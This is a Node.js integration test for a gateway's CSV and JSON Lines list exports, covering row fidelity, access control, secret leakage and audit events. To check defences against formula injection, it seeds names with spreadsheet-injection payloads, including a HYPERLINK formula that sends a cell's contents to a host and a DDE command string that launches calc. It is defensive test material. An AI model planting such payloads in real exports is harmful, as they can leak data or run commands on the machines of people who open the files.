// Lists as files, on the real program with real traffic: each row once and in order, the same values as CSV and JSON Lines, only for those
// who can read the list, and no secret in any of them.

import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { mkdtemp, readFile, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { promisify } from "node:util";
import { signedIn } from "./lib/access-token.mjs";
import { callApi, createProject, createSignInGateway } from "./lib/api.mjs";
import { Browser } from "./lib/browser.mjs";
import { startChromium } from "./lib/chromium.mjs";
import { formulas, readCsv, textOf } from "./lib/csv.mjs";
import { GRACE, PASSWORD, firstPerson, invite, join as joinProject, keyFor, person } from "./lib/dashboard.mjs";
import { STORES, startGateway } from "./lib/gateway.mjs";
import { toolCall } from "./lib/mcp.mjs";
import { run } from "./lib/process.mjs";
import { startProvider } from "./lib/provider.mjs";
import { SECRET, startWebhook } from "./lib/receivers.mjs";
import { startStatelessServer } from "./lib/stateless-server.mjs";
import { within } from "./lib/time.mjs";

const CANARY = "canary-31c8e0";
const TOOL = { name: "say", inputSchema: { type: "object" } };
const FORMATS = { csv: "text/csv; charset=utf-8; header=present", jsonl: "application/jsonl" };
/** Names of people, apps and header users that a spreadsheet would compute. */
const NAMES = { ada: '=HYPERLINK("http://127.0.0.1:1/?"&A1,"Ada")', grace: "Grace;=1+1;" };
const APP = "@SUM(A1:A9)\t-1";
const HEADER_USERS = ["=1+1", "+491234567", "-1", "@ada", "ada;=cmd", "o'hara, \"a\""];

const ADA_INVITED = { email: "ada@example.com", role: "admin" };

/** The upstream server: says something that must be in no file. */
const startUpstream = () =>
  startStatelessServer({
    list: () => ({ tools: [TOOL], ttlMs: 60_000, cacheScope: "public" }),
    call: ({ reply }) => reply({ content: [{ type: "text", text: `${CANARY}-result` }] }),
  });

/** Asks the API for a list in any form. */
const ask = (origin, key, path) => fetch(`${origin}/api/v1${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });

/** The whole list, page by page. */
async function paged(origin, key, path) {
  const items = [];
  for (let cursor = ""; cursor !== null; ) {
    const asked = `${path}${path.includes("?") ? "&" : "?"}limit=90${cursor && `&cursor=${cursor}`}`;
    const page = await callApi(origin, key, "GET", asked);
    items.push(...page.items);
    cursor = page.next_cursor;
  }
  return items;
}

/** The schema of what an operation returns. */
function schemaOf(document, operation) {
  const schema = operation?.responses?.["200"]?.content?.["application/json"]?.schema;
  return schema?.$ref ? document.components.schemas[schema.$ref.split("/").at(-1)] : schema;
}

/** Checks that CSV has the same as the objects of a list. */
function checkCsv(text, items, path) {
  const [head, ...rows] = readCsv(text);
  assert.equal(new Set(head).size, head.length, `${path}: two columns have the same name`);
  assert.equal(rows.length, items.length, path);
  for (const [index, item] of items.entries()) {
    const members = new Set(head.map((name) => name.split(".")[0]));
    assert.deepEqual(Object.keys(item).filter((name) => !members.has(name)), [], `${path}: a member has no column`);
    for (const [column, name] of head.entries()) {
      const [outer, inner] = name.split(".");
      const value = inner === undefined ? item[outer] : item[outer]?.[inner];
      const cell = rows[index][column];
      const where = `${path}: ${name} of row ${index}`;
      if (typeof value !== "number") assert.deepEqual(formulas(cell), [], where);
      if (value === null || value === undefined) assert.equal(cell, "", where);
      else if (typeof value === "string") assert.equal(textOf(cell), value, where);
      else assert.deepEqual(JSON.parse(textOf(cell)), value, where);
    }
  }
}

/** A world in which every list has something; with all that must be in no file. */
async function startWorld(store) {
  const running = [];
  const begin = async (starting) => {
    const started = await starting;
    running.push(started);
    return started;
  };
  const stop = async () => {
    for (const each of running.reverse()) await each.stop();
  };
  const env = { GATEWRIGHT__NOTIFICATIONS__WAIT_SECONDS: "1", GATEWRIGHT__NOTIFICATIONS__SETTLE_SECONDS: "2" };
  const gateway = await begin(startGateway({ store, env, logLevel: "warn" }));
  const { url: origin, instanceKey, projectKey, create } = gateway;
  const secrets = [instanceKey, projectKey, gateway.masterKey, CANARY, SECRET];
  const instance = (method, path, body) => callApi(origin, instanceKey, method, path, body);
  const provider = await begin(
    startProvider({
      redirectUri: gateway.callback,
      client: { client_secret: `${CANARY}-client-secret` },
      configure: { findAccount: (_, sub) => ({ accountId: sub, claims: () => ({ sub, name: NAMES[sub], email: `${sub}@example.com` }) }) },
    }),
  );
  const upstream = await begin(startUpstream());
  const webhook = await begin(startWebhook());
  await instance("POST", "/streams", { name: "+SIEM", kind: "webhook", url: webhook.url, secret: SECRET });
  const keys = {};
  for (const role of ["viewer", "gateway"]) {
    keys[role] = (await create("api-keys", { name: `=${role}`, role })).key;
    secrets.push(keys[role]);
  }
  await create("secrets", { name: "TOKEN", value: `${CANARY}-secret`, origins: [upstream.origin] });
  const headers = [{ name: "x-api-key", value: "Key ${secret:TOKEN}" }];
  const server = await create("servers", { slug: "one", name: "=One, \"the first\"", url: upstream.url, headers });
  const dead = await create("servers", { slug: "dead", name: "-Dead", url: "http://127.0.0.1:1/mcp" });
  await gateway.api("POST", `${gateway.project}/servers/${dead.id}/check`);
  const staff = await createSignInGateway(gateway, provider, { name: "Staff\u{ff1d}1", slug: "staff", servers: [server.id, dead.id] });
  const agents = await create("gateways", { name: "Agents", slug: "agents", authentication_mode: "headers", servers: [server.id] });
  const app = await create(`gateways/${staff.id}/preregistered-clients`, {
    name: "Portal;+1",
    redirect_uris: ["https://portal.example.com/callback"],
    token_endpoint_auth_method: "client_secret_basic",
  });
  const [joined, open] = [await create("invitations", { email: GRACE.email, role: "viewer" }), await create("invitations", ADA_INVITED)];
  secrets.push(app.client_secret, ...[joined, open].map(({ link }) => link.split("/").at(-1)));
  const grace = new Browser();
  const page = await grace.submit(await grace.open(joined.link), { values: { name: "=Grace", password: PASSWORD } });
  assert.equal(page.status, 200, page.text);
  secrets.push(PASSWORD, ...[...grace.cookies.values()].flatMap((jar) => [...jar.values()].map(({ value }) => value)).filter(({ length }) => length > 20));
  const other = await createProject(origin, instanceKey, "Other");
  // People sign in with an app each, and call.
  for (const [user, name] of [["ada", APP], ["grace", APP], ["grace", "Blocked"]]) {
    const { tokens } = await signedIn({ url: staff.url, user, name });
    secrets.push(tokens.access_token, tokens.refresh_token);
    const said = await fetch(staff.url, toolCall({ bearer: tokens.access_token, name: "one_say", arguments: { what: CANARY } }));
    assert.ok((await said.text()).includes(CANARY), "the call worked");
  }
  const call = async (user, name = "say") => {
    const answer = await fetch(agents.url, toolCall({ bearer: keys.gateway, user, name, arguments: { what: CANARY } }));
    return answer.text();
  };
  for (const user of HEADER_USERS) await call(user);
  await call("ada", "=cmd|' /C calc'!A0");
  // More than two pages of an export.
  for (let count = 0; count < 420; count += 20) await Promise.all(Array.from({ length: 20 }, (_, number) => call(`user-${count + number}`)));
  const clients = (await gateway.api("GET", `${gateway.project}/gateways/${staff.id}/clients`)).items;
  const blocked = clients.find(({ client_name: name }) => name === "Blocked");
  await create(`gateways/${staff.id}/blocked-clients`, { client_id: blocked.client_id });
  const file = join(gateway.folder, "all.yaml");
  await run(gateway.program, ["export", "--output", file, ...gateway.config]);
  await run(gateway.program, ["apply", "--file", file, ...gateway.config]);
  const [user] = (await gateway.api("GET", `${gateway.project}/users`)).items;
  const ids = { project: gateway.project.split("/")[2], gateway: staff.id, user: user.id };
  for (const [list, count] of [["activity?kind=call", 428], ["incidents", 1]]) {
    const read = async () => (await paged(origin, projectKey, `${gateway.project}/${list}`)).length;
    await within(40_000, async () => (await read()) >= count, `too few rows in ${list}`);
  }
  return { gateway, origin, keys, other, ids, secrets, stop };
}

for (const store of STORES) {
  describe(`lists as files on ${store}`, () => {
    let world, lists, onePage;

    before(async () => {
      world = await startWorld(store);
      const document = await (await fetch(`${world.origin}/api/openapi.json`)).json();
      lists = Object.entries(document.paths)
        .filter(([, { get }]) => get?.parameters?.some(({ name }) => name === "format"))
        .map(([path]) => path.replace("/api/v1", "").replace(/\{(\w+)\}/g, (all, name) => world.ids[name] ?? all))
        // A member's grants need a gateway of members.
        .filter((path) => !path.endsWith("/members/{account}/grants"));
      assert.deepEqual(lists.filter((path) => path.includes("{")), []);
      onePage = Object.entries(document.paths)
        .filter(([, { get }]) => schemaOf(document, get)?.properties?.items && !get.parameters?.some(({ name }) => name === "format"))
        .map(([path]) => path.replace("/api/v1", ""));
    });
    after(() => world?.stop());

    const masterOf = (path) => (path.startsWith("/projects/") ? world.gateway.projectKey : world.gateway.instanceKey);
    const withFormat = (path, format) => `${path}${path.includes("?") ? "&" : "?"}format=${format}`;

    /** The file of a list, and the list as it was at that moment: read before and after, without the events that exports leave. */
    async function exported(path, format) {
      let found;
      const list = async () => (await paged(world.origin, masterOf(path), path)).filter(({ object }) => object?.type !== "export");
      const same = async () => {
        const items = await list();
        const answer = await ask(world.origin, masterOf(path), withFormat(path, format));
        found = { items, answer, text: await answer.text() };
        return JSON.stringify(items) === JSON.stringify(await list());
      };
      await within(20_000, same, `${path} never stays as it is`);
      return found;
    }

    test("every list is in its file as it is, as JSON Lines and as CSV", async () => {
      const empty = [];
      for (const path of lists) {
        const name = path.split("/").findLast((part) => /^[a-z-]+$/.test(part));
        const own = ({ object }) => object?.type !== "export";
        for (const [format, type] of Object.entries(FORMATS)) {
          const { items, answer, text } = await exported(path, format);
          assert.equal(answer.status, 200, `${path}: ${text}`);
          assert.equal(answer.headers.get("content-type"), type);
          assert.match(answer.headers.get("content-disposition"), new RegExp(`^attachment; filename="${name}-\\d{4}-\\d\\d-\\d\\d\\.${format}"$`));
          assert.equal(answer.headers.get("cache-control"), "no-store");
          assert.equal(answer.headers.get("x-content-type-options"), "nosniff");
          for (const secret of world.secrets) assert.ok(!text.includes(secret), `${path} has ${secret}`);
          if (items.length === 0) empty.push(path.replace(/.*\//, ""));
          if (format === "jsonl") {
            assert.ok(text === "" || text.endsWith("\n"));
            const objects = text.split("\n").slice(0, -1).map((line) => JSON.parse(line));
            assert.deepEqual(objects.filter(own), items, path);
          } else if (name === "audit-events") {
            const [head, ...rows] = readCsv(text);
            const column = head.indexOf("object.type");
            const kept = rows.filter((row) => row[column] !== "export");
            const quoted = [head, ...kept].map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(","));
            checkCsv(quoted.map((line) => `${line}\r\n`).join(""), items, path);
          } else {
            checkCsv(text, items, path);
          }
        }
      }
      assert.ok(lists.length >= 20, lists.join("\n"));
      const named = ["/account/memberships", "/account/sessions", "/known-clients", "/projects/{project}/attention", "/provider-presets", "/sign-in-refusals"];
      assert.deepEqual(onePage.sort(), named, "the guide names them");
      assert.deepEqual([...new Set(empty)], [], "a list has nothing to check");
    });

    test("what a spreadsheet would compute has an apostrophe in front, and reads back", async () => {
      const { project } = world.gateway;
      const columnOf = async (path, name) => {
        const [head, ...rows] = readCsv(await (await ask(world.origin, masterOf(path), path)).text());
        return rows.map((row) => row[head.indexOf(name)]);
      };
      const users = await columnOf(`${project}/users?format=csv`, "display_name");
      assert.deepEqual(users.map(textOf).sort(), Object.values(NAMES).sort());
      assert.ok(users.includes(`'${NAMES.ada}`) && users.includes("Grace;'=1+1;"), users.join("\n"));
      const callers = new Set(await columnOf(`${project}/activity?kind=call&format=csv`, "header_user_id"));
      for (const user of HEADER_USERS.slice(0, 4)) assert.ok(callers.has(`'${user}`) && !callers.has(user), user);
      assert.ok(callers.has("ada;'=cmd") && callers.has(HEADER_USERS[5]));
    });

    test("filters apply, and the parameters of a page are refused by their names", async () => {
      const { project } = world.gateway;
      const filters = ["users?search=grace", "activity?header_user_id=user-7", "activity?kind=call&outcome=ok"];
      filters.push("audit-events?action=secret.created", "servers?search=dead");
      for (const filter of filters) {
        const path = `${project}/${filter}`;
        const whole = await paged(world.origin, masterOf(path), path.split("?")[0]);
        const { items, text } = await exported(path, "jsonl");
        assert.ok(items.length > 0 && items.length < whole.length, `${filter} finds ${items.length} of ${whole.length}`);
        assert.deepEqual(text.trim().split("\n").map((line) => JSON.parse(line)), items);
        checkCsv((await exported(path, "csv")).text, items, path);
      }
      for (const [query, field] of [
        ["format=csv&limit=5", "limit"],
        ["limit=5&format=jsonl", "limit"],
        ["format=csv&cursor=usr_1", "cursor"],
        ["format=xml", "format"],
        ["format=CSV", "format"],
        ["format=", "format"],
        ["format=csv&format=jsonl", "format"],
        ["format=csv&serach=ada", "serach"],
        ["format=csv&status=asleep", "status"],
      ]) {
        const answer = await ask(world.origin, world.gateway.projectKey, `${project}/users?${query}`);
        assert.equal(answer.status, 400, query);
        assert.equal(answer.headers.get("content-type"), "application/problem+json", query);
        assert.ok((await answer.json()).detail.includes(`\`${field}\``), query);
      }
    });

    test("a file is refused exactly as its list is", async () => {
      const { keys, other, gateway } = world;
      const refusal = async (key, path) => {
        const answer = await ask(world.origin, key, path);
        const { instance: _, ...problem } = answer.ok ? {} : await answer.json();
        return { status: answer.status, type: answer.ok ? "" : answer.headers.get("content-type"), ...problem };
      };
      const refused = [];
      for (const path of lists) {
        for (const [who, key] of Object.entries({ ...keys, owner: gateway.projectKey, other: other.key, stranger: "gwk_nothing", nobody: "" })) {
          const list = await refusal(key, path);
          for (const format of Object.keys(FORMATS)) assert.deepEqual(await refusal(key, withFormat(path, format)), list, `${who} at ${path}`);
          refused.push(`${who} ${list.status}`);
        }
      }
      assert.deepEqual(
        [...new Set(refused)].filter((each) => !each.endsWith(" 200")).sort(),
        ["gateway 403", "nobody 401", "other 403", "other 404", "owner 403", "stranger 401", "viewer 403"],
      );
    });

    test("the audit trail says who exported what, without the values of filters", async () => {
      const { gateway, keys } = world;
      await (await ask(world.origin, keys.viewer, `${gateway.project}/users?search=grace&format=csv`)).text();
      const events = await gateway.api("GET", `${gateway.project}/audit-events?action=export.started&limit=200`);
      const event = events.items.find(({ object, changes }) => object.name === "users" && JSON.stringify(changes).includes("search"));
      assert.ok(event && !JSON.stringify(event.changes).includes("grace"), JSON.stringify(events.items, null, 1));
    });

    test("the commands of the guide work as they are written", async (t) => {
      const guide = await readFile(join(import.meta.dirname, "../docs/guide/exports.md"), "utf8");
      const commands = [...guide.matchAll(/```sh\n([\s\S]*?)```/g)].flatMap(([, lines]) => lines.trim().split("\n"));
      assert.ok(commands.length >= 2 && commands.every((line) => line.startsWith("curl ")), commands.join("\n"));
      const folder = await mkdtemp(join(tmpdir(), "gatewright-exports-"));
      t.after(() => rm(folder, { recursive: true, force: true }));
      const env = { ...process.env, URL: world.origin, PROJECT: world.ids.project, KEY: world.keys.viewer };
      for (const command of commands) await promisify(execFile)("sh", ["-ec", command], { cwd: folder, env });
      const names = (await readdir(folder)).sort();
      assert.equal(names.length, commands.length, names.join());
      for (const name of names) {
        const text = await readFile(join(folder, name), "utf8");
        if (name.endsWith(".csv")) assert.ok(readCsv(text).length > 1, name);
        else assert.ok(text.trim().split("\n").every((line) => JSON.parse(line)), name);
      }
    });
  });
}

for (const javaScriptEnabled of [true, false]) {
  describe(`files in the dashboard ${javaScriptEnabled ? "with" : "without"} script`, () => {
    let chromium, gateway, upstream, ada, key;

    before(async () => {
      [chromium, gateway, upstream] = [await startChromium(), await startGateway(), await startUpstream()];
      ada = await firstPerson(chromium, gateway, { javaScriptEnabled });
      key = await keyFor(ada.page, gateway, ada.project);
      const create = (kind, body) => gateway.api("POST", `${ada.project}/${kind}`, body, key);
      await create("servers", { slug: "one", url: upstream.url });
      const { url } = await create("gateways", { name: "Agents", slug: "agents", authentication_mode: "headers" });
      await ada.page.goto(`${gateway.url}${ada.project}/api-keys`);
      await ada.page.getByLabel("Name", { exact: true }).fill("Calls");
      await ada.page.getByRole("radio", { name: /^Gateway/ }).check();
      await ada.page.getByRole("button", { name: "Create key" }).click();
      const caller = await ada.page.locator("#api-key").innerText();
      for (const user of ["ada", "bob", "bob"]) await (await fetch(url, toolCall({ bearer: caller, user, name: "say" }))).text();
      const calls = async () => (await gateway.api("GET", `${ada.project}/activity?kind=call`, undefined, key)).items;
      await within(10_000, async () => (await calls()).length === 3, "the calls are not there");
    });

    after(async () => {
      await chromium?.close();
      for (const each of [upstream, gateway]) await each?.stop();
    });

    /** Clicks a link on a page; the name of the file, and what is in it. */
    async function download(page, path, link) {
      await page.goto(`${gateway.url}${path}`);
      const click = page.locator("main").getByRole("link", { name: link, exact: true }).click();
      const [file] = await Promise.all([page.waitForEvent("download"), click]);
      return { name: file.suggestedFilename(), text: await readFile(await file.path(), "utf8") };
    }

    test("each list leads to its files, with the filters of the page", async () => {
      const { project, page } = ada;
      const calls = await download(page, `${project}/activity?kind=call&person=%7Cbob`, "CSV");
      assert.match(calls.name, /^activity-\d{4}-\d\d-\d\d\.csv$/);
      const [head, ...rows] = readCsv(calls.text);
      assert.deepEqual(rows.map((row) => row[head.indexOf("header_user_id")]), ["bob", "bob"]);
      for (const [path, name] of [
        [`${project}/users?search=no-one`, "users"],
        [`${project}/sign-ins`, "sign-in-attempts"],
        [`${project}/audit?object_type=gateway`, "audit-events"],
        [`${project}/servers`, "servers"],
        ["/instance/accounts", "accounts"],
        ["/instance/audit", "audit-events"],
        ["/projects", "projects"],
      ]) {
        const csv = await download(page, path, "CSV");
        const lines = await download(page, path, /JSON Lines$/);
        assert.match(csv.name, new RegExp(`^${name}-\\d{4}-\\d\\d-\\d\\d\\.csv$`), path);
        assert.match(lines.name, new RegExp(`^${name}.*\\.jsonl$`), path);
        const objects = lines.text.split("\n").slice(0, -1).map((line) => JSON.parse(line));
        if (path.includes("object_type")) assert.deepEqual([...new Set(objects.map(({ object }) => object.type))], ["gateway"]);
        else assert.equal(readCsv(csv.text).length - 1 > 0, objects.length > 0, path);
      }
      assert.deepEqual(ada.complaints, []);
    });

    test("a viewer gets what a viewer can read", async () => {
      const get = async (page, path) => page.request.get(`${gateway.url}/api/v1${path}`);
      const grace = await person(chromium, { javaScriptEnabled });
      await ada.page.goto(`${gateway.url}${ada.project}`);
      await joinProject(grace.page, await invite(ada.page, GRACE, "Viewer"), GRACE);
      for (const [path, status] of [["/api-keys", 403], ["/accounts", 403], ["/streams", 403], [`${ada.project}/users`, 200]]) {
        const [list, file] = [await get(grace.page, path), await get(grace.page, `${path}?format=csv`)];
        assert.deepEqual([list.status(), file.status()], [status, status], path);
        if (status === 403) assert.equal((await file.json()).detail, (await list.json()).detail);
      }
      const users = await download(grace.page, `${ada.project}/activity?kind=call`, "JSON Lines");
      assert.equal(users.text.trim().split("\n").length, 3);
    });
  });
}
